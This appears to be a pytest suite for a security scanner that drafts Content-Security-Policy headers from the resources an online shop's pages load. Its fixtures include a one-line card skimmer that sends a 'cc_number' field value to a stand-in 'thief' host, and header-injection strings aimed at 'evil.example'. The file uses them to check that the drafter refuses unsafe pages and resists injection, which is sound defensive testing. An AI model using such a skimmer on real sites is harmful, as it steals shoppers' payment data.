"""A policy drafted from pages: each word with its reason, wide where the pages do not tell, and safe to put into a header."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checks.browser import csp_draft
from checks.browser.csp_draft import Draft, draft
from checks.browser.csp_parser import policies, weaknesses
from checks.browser.headers import csp_missing, csp_unsafe
from checks.browser.services import SERVICES, Service
from scanner import (
    CrossOrigin,
    FileKind,
    Form,
    Found,
    LoadedFiles,
    Page,
    PageKind,
    Passed,
    Resource,
    Script,
    Unavailable,
    Unread,
    Verdict,
)
from scanner.testing import HOST, NOW, installations, loaded_file, loaded_files, page, pages, script_hosts

STEADY = Script(inline="start()", digest="sha256-" + "A" * 43 + "=")
SILENT = Unavailable("silent")


def made_of(*shown: Page, files: LoadedFiles | Unavailable | None = None, gone: frozenset[str] = frozenset()) -> Draft:
    return draft(shown, loaded_files() if files is None else files, gone=gone)


def words(made: Draft, directive: str) -> list[str]:
    return [source.value for source in made.sources if source.directive == directive]


def resource(tag: str, address: str, attribute: str = "src", rel: str = "") -> Resource:
    return Resource(tag, attribute, address, rel)


def test_a_shop_that_loads_nothing_from_elsewhere() -> None:
    made = made_of(page())
    assert made.policy == (
        "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self' data:; connect-src 'self'; "
        "object-src 'none'; base-uri 'self'; form-action 'self' https:; frame-ancestors 'self'"
    )
    assert all(source.because for source in made.sources)


@pytest.mark.parametrize(
    ("tag", "directive"),
    [
        (resource("img", "https://x.example/a.png"), "img-src"),
        (resource("img", "https://x.example/a.png", "srcset"), "img-src"),
        (resource("source", "https://x.example/a.webp", "srcset"), "img-src"),
        (resource("source", "https://x.example/a.mp4"), "media-src"),
        (resource("video", "https://x.example/a.mp4"), "media-src"),
        (resource("video", "https://x.example/a.png", "poster"), "img-src"),
        (resource("audio", "https://x.example/a.mp3"), "media-src"),
        (resource("iframe", "https://x.example/map"), "frame-src"),
        (resource("object", "https://x.example/a.swf", "data"), "object-src"),
        (resource("input", "https://x.example/a.png"), "img-src"),
        (resource("td", "https://x.example/a.png", "background"), "img-src"),
        (resource("link", "https://x.example/a.css", "href", "stylesheet"), "style-src"),
        (resource("link", "https://x.example/a.ico", "href", "shortcut icon"), "img-src"),
        (resource("link", "https://x.example/m.json", "href", "manifest"), "manifest-src"),
        (resource("link", "https://x.example/m.js", "href", "modulepreload"), "script-src"),
        (resource("style", "https://x.example/a.woff2", "style"), "font-src"),
        (resource("style", "https://x.example/a.css", "style"), "style-src"),
        (resource("div", "https://x.example/a.png", "style"), "img-src"),
        (resource("style", "https://x.example/css", "import"), "style-src"),
        (resource("style", "https://x.example/f", "font"), "font-src"),
    ],
)
def test_which_directive(tag: Resource, directive: str) -> None:
    made = made_of(page(resources=[tag]))
    assert "https://x.example" in words(made, directive)
    assert sum(source.value == "https://x.example" and source.directive != "connect-src" for source in made.sources) == 1
    assert words(made, directive)[0] == ("'self'" if directive != "object-src" else "https://x.example")


@pytest.mark.parametrize("rel", ["canonical", "alternate", "next", "preconnect", "dns-prefetch", "preload", "author"])
def test_what_browsers_do_not_load_is_not_in_it(rel: str) -> None:
    assert "x.example" not in made_of(page(resources=[resource("link", "https://x.example/a", "href", rel)])).policy


def test_the_reason_names_the_pages() -> None:
    shown = [page(path, scripts=[Script("https://js.pay.example/v1.js")]) for path in ("/cart", "/checkout", "/done")]
    made = made_of(*shown)
    assert ("script-src", "https://js.pay.example", "/cart and 2 more") in [
        (s.directive, s.value, s.because) for s in made.sources
    ]
    assert "https://js.pay.example" in words(made, "connect-src")


def test_a_store_that_anybody_can_publish_in_is_allowed_file_by_file() -> None:
    made = made_of(page(scripts=[Script("https://cdn.jsdelivr.net/npm/a@1.2.3/a.min.js?x=1")]))
    assert words(made, "script-src") == ["'self'", "https://cdn.jsdelivr.net/npm/a@1.2.3/a.min.js"]
    assert words(made, "connect-src") == ["'self'"]
    assert weaknesses(policies([made.policy])[0]) == ()


def test_scripts_in_pages_by_hash_only_where_they_never_change() -> None:
    both = made_of(page(scripts=[STEADY]), page("/roses", scripts=[STEADY]))
    assert f"'{STEADY.digest}'" in words(both, "script-src")
    assert "'unsafe-inline'" not in both.policy
    for shown in (
        [page(scripts=[STEADY])],  # once is no proof
        [page(scripts=[Script(inline="a", digest="sha256-a")]), page("/roses", scripts=[Script(inline="b", digest="sha256-b")])],
        [page(scripts=[Script(inline="a")]), page("/roses", scripts=[Script(inline="a")])],  # an old recording knows no digests
        [Page(f"https://{HOST}/", PageKind.HOME, 200, handlers=3)],
    ):
        made = made_of(*shown)
        assert words(made, "script-src") == ["'self'", "'unsafe-inline'"]
        assert any("not injected text" in source.because for source in made.sources)
    data = Script(inline='{"@type":"Product"}', kind="application/ld+json", digest="sha256-c")
    assert "unsafe" not in made_of(page(scripts=[data])).policy


def test_styles_in_pages() -> None:
    assert words(made_of(Page(f"https://{HOST}/", PageKind.HOME, 200, styled=2)), "style-src") == ["'self'", "'unsafe-inline'"]
    assert words(made_of(page(scripts=[Script("https://chat.example/w.js")])), "style-src") == ["'self'", "'unsafe-inline'"]


@pytest.mark.parametrize("service", SERVICES, ids=lambda service: service.name)
def test_known_services_bring_what_they_need(service: Service) -> None:
    address = f"https://{service.hosts[0]}/x.js"
    for shown in (page(scripts=[Script(address)]), page(scripts=[Script(inline=f"j.src='{address}';", digest="sha256-x")])):
        made = made_of(shown)
        for directive, values in service.needs.items():
            assert set(values) <= set(words(made, directive)), directive
            assert all(re.fullmatch(csp_draft._SOURCE, value) for value in values)
        assert any(service.name in source.because for source in made.sources)
    assert service.source.startswith("https://")


def test_scripts_that_a_script_inserts() -> None:
    inline = Script(
        inline=r"s.src='https:\/\/tag.example\/t.js';d.src='//two.example/x/y.js?z';see='http://not.example/page'",
        digest="sha256-x",
    )
    made = made_of(page(scripts=[inline]))
    assert {"https://tag.example", "https://two.example"} <= set(words(made, "script-src"))
    assert "not.example" not in made.policy


def test_what_styles_load() -> None:
    style = f"https://{HOST}/a.css"
    linked = page(resources=[resource("link", style, "href", "stylesheet")])
    loads = [
        Resource("style", "import", "https://fonts.example/css"),
        Resource("style", "font", "https://files.example/f"),
        Resource("style", "url", "https://pictures.example/b.png"),
    ]
    second = loaded_file(
        "https://fonts.example/css", kind=FileKind.STYLE, loads=[Resource("style", "font", "https://deep.example/f")]
    )
    other = loaded_file(
        "https://elsewhere.example/x.css", kind=FileKind.STYLE, loads=[Resource("style", "font", "https://no.example/f")]
    )
    made = made_of(linked, files=loaded_files(loaded_file(style, kind=FileKind.STYLE, loads=loads), second, other))
    assert "https://fonts.example" in words(made, "style-src")
    assert {"https://files.example", "https://deep.example"} <= set(words(made, "font-src"))
    assert "https://pictures.example" in words(made, "img-src")
    assert "no.example" not in made.policy


def test_the_shop_itself_by_another_scheme_or_name() -> None:
    shown = page(resources=[resource("img", f"http://{HOST}/a.png"), resource("img", f"https://static.{HOST}/a.png")])
    assert {f"http://{HOST}", f"https://static.{HOST}"} <= set(words(made_of(shown), "img-src"))
    plain = page(f"http://{HOST}/", resources=[resource("img", f"https://{HOST}/a.png")])
    assert words(made_of(plain), "img-src") == ["'self'", "data:"]
    sending = page(forms=[Form(f"http://{HOST}/login", "post")])
    assert f"http://{HOST}" in words(made_of(sending), "form-action")


def test_a_host_that_is_gone_is_left_out() -> None:
    made = made_of(page(scripts=[Script("https://cdn.gone.example/a.js")]), gone=frozenset({"cdn.gone.example"}))
    assert "gone.example" not in made.policy
    assert any("cdn.gone.example" in doubt for doubt in made.doubts)


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example;script-src/*",
        "https://evil.example/%0a",
        "https://[2001:db8::1]/a.png",
        "https://under_score.example/a.png",
        'https://quote".example/a.png',
        "https://back\\slash.example/",
        "https://$host.example/a.png",
        "https://[broken",
        "https://host.example:99999999/",
    ],
)
def test_no_page_can_write_into_the_header(address: str) -> None:
    made = made_of(page(resources=[resource("img", address), resource("iframe", address)], scripts=[Script(address)]))
    assert re.fullmatch(r"[A-Za-z0-9 ;:/.'*_+=@~-]+", made.policy)
    assert len(policies([made.policy])) == 1
    assert set(policies([made.policy])[0].directives) <= set(csp_draft.ORDER)
    assert "evil.example/*" not in made.policy


def test_a_shop_that_loads_from_too_many_places_gets_none() -> None:
    many = page(resources=[resource("img", f"https://h{number}.example/") for number in range(200)])
    assert made_of(many).policy == ""


def test_what_it_cannot_know_is_said() -> None:
    eager = page(scripts=[Script(inline="x = new Function('return 1')", digest="sha256-x")])
    doubts = " ".join(made_of(eager, files=Unavailable("no")).doubts)
    for said in ("No checkout page", "connect-src", "Not every style", "'unsafe-eval'"):
        assert said in doubts
    style = f"https://{HOST}/styles?v=1"
    linked = page(resources=[resource("link", style, "href", "stylesheet")])
    for files, said in (
        (loaded_files(unread=[Unread(style, "It took too long.", examined=False)]), True),
        (loaded_files(left_out=[style]), True),
        (loaded_files(unread=[Unread(style, "The server answered 404.", examined=True)]), False),
        (loaded_files(unread=[Unread("https://x.example/a.js", "It took too long.", examined=False)]), False),
    ):
        assert any("Not every style" in doubt for doubt in made_of(linked, files=files).doubts) is said
    assert "Not every style" not in " ".join(made_of(page("/checkout", kind=PageKind.CHECKOUT)).doubts)


def missing(*shown: Page, files: LoadedFiles | None = None, remarks: tuple[str, ...] = ()) -> Verdict:
    return csp_missing(
        pages(*shown, remarks=remarks), CrossOrigin((), SILENT, NOW), installations(), files or loaded_files(), script_hosts()
    )


def test_the_finding_holds_the_draft_and_its_subject_stays() -> None:
    verdict = missing(page(), page("/roses"))
    assert isinstance(verdict, Found)
    (finding,) = verdict.findings
    assert finding.subject == HOST
    assert finding.ready.startswith("Content-Security-Policy-Report-Only: default-src 'self'; ")
    assert finding.shown.startswith(
        "Every page: no Content-Security-Policy for scripts.\n\nThe draft below is made from what 2 pages load."
    )
    again = missing(page(scripts=[Script("https://new.example/a.js")]), page("/roses"))
    assert isinstance(again, Found)
    assert [one.subject for one in again.findings] == [HOST]


def test_an_unsafe_policy_gets_one_and_a_good_one_none() -> None:
    weak = page(headers=[("content-security-policy", "script-src * 'unsafe-inline'")])
    verdict = csp_unsafe(pages(weak), installations(), loaded_files(), script_hosts())
    assert isinstance(verdict, Found)
    assert verdict.findings[0].ready
    assert missing(page(headers=[("content-security-policy", "script-src 'self'")])) == Passed(("/",))


def test_a_crawl_that_ended_early_is_said() -> None:
    verdict = missing(remarks=("The crawl stopped early.",))
    assert isinstance(verdict, Found)
    assert "Not all pages were seen: The crawl stopped early." in verdict.findings[0].shown
    for examined, said in ((False, True), (True, False)):
        shop = pages(page(), unread=[Unread(f"https://{HOST}/x", "It did not answer.", examined=examined)])
        verdict = csp_missing(shop, CrossOrigin((), SILENT, NOW), installations(), loaded_files(), script_hosts())
        assert isinstance(verdict, Found)
        assert ("1 address could not be read." in verdict.findings[0].shown) is said


def test_no_policy_that_would_let_a_thief_in() -> None:
    thief = Script(
        inline="new Image().src='https://x.thief.example/?'+document.getElementById('cc_number').value", digest="sha256-x"
    )
    verdict = missing(page(scripts=[thief]), page("/roses", scripts=[thief]))
    assert isinstance(verdict, Found)
    assert verdict.findings[0].ready == ""
    assert "No policy was drafted" in verdict.findings[0].shown


def test_each_host_has_its_own() -> None:
    blog = page("https://blog.petalandstem.example/", kind=PageKind.OTHER, resources=[resource("img", "https://x.example/a.png")])
    verdict = missing(page(), blog)
    assert isinstance(verdict, Found)
    assert ["x.example" in one.ready for one in verdict.findings] == [True, False]


ADDRESSES = st.one_of(
    st.text(max_size=60),
    st.builds(
        "https://{}/{}".format,
        st.text(alphabet="abc.;-_*'\" \n$%[]:@", max_size=20),
        st.text(alphabet="a/;,'\"% ?#\\", max_size=10),
    ),
)


@settings(max_examples=300)
@given(st.lists(ADDRESSES, max_size=6), ADDRESSES)
def test_whatever_a_page_names_the_header_stays_one_policy(addresses: list[str], own: str) -> None:
    shown = Page(own, PageKind.HOME, 200, base=own, scripts=tuple(map(Script, addresses)), resources=tuple(resource("img", one) for one in addresses), forms=tuple(Form(f"http:{one}") for one in addresses))  # fmt: skip
    made = made_of(shown)
    assert re.fullmatch(r"[A-Za-z0-9 ;:/.'*_+=@~-]*", made.policy)
    assert all(set(one.directives) <= set(csp_draft.ORDER) for one in policies([made.policy]))
    assert len(policies([made.policy])) == bool(made.policy)
